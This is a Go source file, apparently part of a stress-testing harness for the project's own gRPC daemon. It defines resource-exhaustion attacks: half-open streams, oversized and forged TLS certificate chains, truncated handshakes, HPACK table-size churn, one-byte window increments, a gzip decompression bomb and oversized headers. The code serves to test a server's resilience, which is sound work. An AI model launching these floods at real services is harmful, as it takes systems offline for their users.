package main

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"strings"
	"time"
)

// grpcAttacks are further attacks on the gRPC edge: on the state of a connection and of a call, on TLS and on
// errors.
var grpcAttacks = []attack{
	{name: "grpc-trailers", connections: 500, dial: toGRPC("none"), deaf: true,
		what: "half-open calls, each with a second header block at its end, which looks like another call",
		act: func(_ *world, p *peer) error {
			go p.finish()
			p.preface(1 << 30)
			call := grpcBlock("hmacd.v1.MacService/GenerateMac")
			half := grpcFrame(make([]byte, 1000))[:500]
			for i := range 40 {
				for _, stream := range streams(50) {
					stream += uint32(100 * i)
					p.headers(stream, false, call)
					_ = p.framer.WriteData(stream, false, half)
					p.headers(stream, true, call)
				}
				if err := p.flush(); err != nil {
					return err
				}
			}
			return nil
		}},
	{name: "grpc-certificates", connections: 3000, dial: withChain(tls.VersionTLS13, 90_000, 0),
		what: "a chain of client certificates of 90 kB on each connection; the connections stay open",
		act: func(_ *world, p *peer) error {
			p.preface(1 << 30)
			return p.flush()
		}},
	{name: "grpc-paths", connections: 2000, dial: withPaths(10),
		what: "a chain of ten forged certificates, in which many paths lead to the name of the daemon's authority: the " +
			"daemon refuses the handshake",
		act: func(_ *world, p *peer) error {
			p.preface(1 << 30)
			return p.flush()
		}},
	{name: "grpc-sessions", connections: 20_000, dial: withChain(tls.VersionTLS12, 12_000, 0), long: true,
		what: "TLS 1.2 with a chain of client certificates of 12 kB; the client closes each connection at once",
		act: func(_ *world, p *peer) error {
			p.leave()
			return nil
		}},
	{name: "grpc-handshakes", connections: 1024, dial: withChain(tls.VersionTLS13, 15_000, 14_000), long: true,
		what: "a handshake on each connection that ends within the client's certificate message of 15 kB",
		act:  func(*world, *peer) error { return nil }},
	{name: "grpc-table-sizes", connections: 64, dial: toGRPC("none"), deaf: true, long: true,
		what: "changes of SETTINGS_HEADER_TABLE_SIZE, all the time",
		act:  func(_ *world, p *peer) error { return p.changeTableSizes() }},
	{name: "grpc-windows", connections: 64, dial: toGRPC("greedy"), deaf: true, long: true,
		what: "as grpc-large-untaken; then the window of all streams grows by one byte at a time",
		act: func(w *world, p *peer) error {
			if err := untakenGRPC(w, p); err != nil {
				return err
			}
			return p.raiseWindows()
		}},
	{name: "grpc-errors", connections: 100, dial: toGRPC("none"), long: true,
		what: "256 calls on each connection with a path of 7 kB that does not begin with a slash: gRPC answers with " +
			"an error of this size; no window for the answers",
		act: func(_ *world, p *peer) error {
			p.preface(0)
			call := block([][2]string{
				{":method", "POST"}, {":scheme", "http"}, {":path", strings.Repeat("x", 7000)}, {":authority", "localhost"},
				{"content-type", "application/grpc"}, {"te", "trailers"},
			}...)
			for _, stream := range streams(256) {
				p.headers(stream, true, call)
			}
			return p.flush()
		}},
	{name: "grpc-gzip", connections: 300, dial: toGRPC("none"), long: true,
		what: "250 half-open calls on each connection, each with a message of 131 kB in 200 bytes of gzip",
		act: func(_ *world, p *peer) error {
			p.preface(1 << 30)
			call := block([][2]string{
				{":method", "POST"}, {":scheme", "http"}, {":path", "/hmacd.v1.MacService/GenerateMac"},
				{":authority", "localhost"}, {"content-type", "application/grpc"}, {"te", "trailers"},
				{"grpc-encoding", "gzip"},
			}...)
			message := grpcFrame(zipped(131_000))
			message[0] = 1 // Compressed.
			for _, stream := range streams(250) {
				p.headers(stream, false, call)
				_ = p.framer.WriteData(stream, false, message)
			}
			return p.flush()
		}},
	{name: "grpc-authorities", connections: 20, dial: toGRPC("none"), long: true,
		what: "as grpc-watches, each with another :authority of 7 kB",
		act: func(_ *world, p *peer) error {
			p.preface(1 << 30)
			for _, stream := range streams(250) {
				authority := fmt.Sprintf("%d-%d.", time.Now().UnixNano(), stream) + strings.Repeat("a", 7000)
				p.request(stream, block([][2]string{
					{":method", "POST"}, {":scheme", "http"}, {":path", "/grpc.health.v1.Health/Watch"},
					{":authority", authority}, {"content-type", "application/grpc"}, {"te", "trailers"},
				}...), grpcFrame(nil))
			}
			return p.flush()
		}},
}

// zipped returns zeros in gzip.
func zipped(size int) []byte {
	var b bytes.Buffer
	writer := gzip.NewWriter(&b)
	_, err := writer.Write(make([]byte, size))
	check(err)
	check(writer.Close())
	return b.Bytes()
}
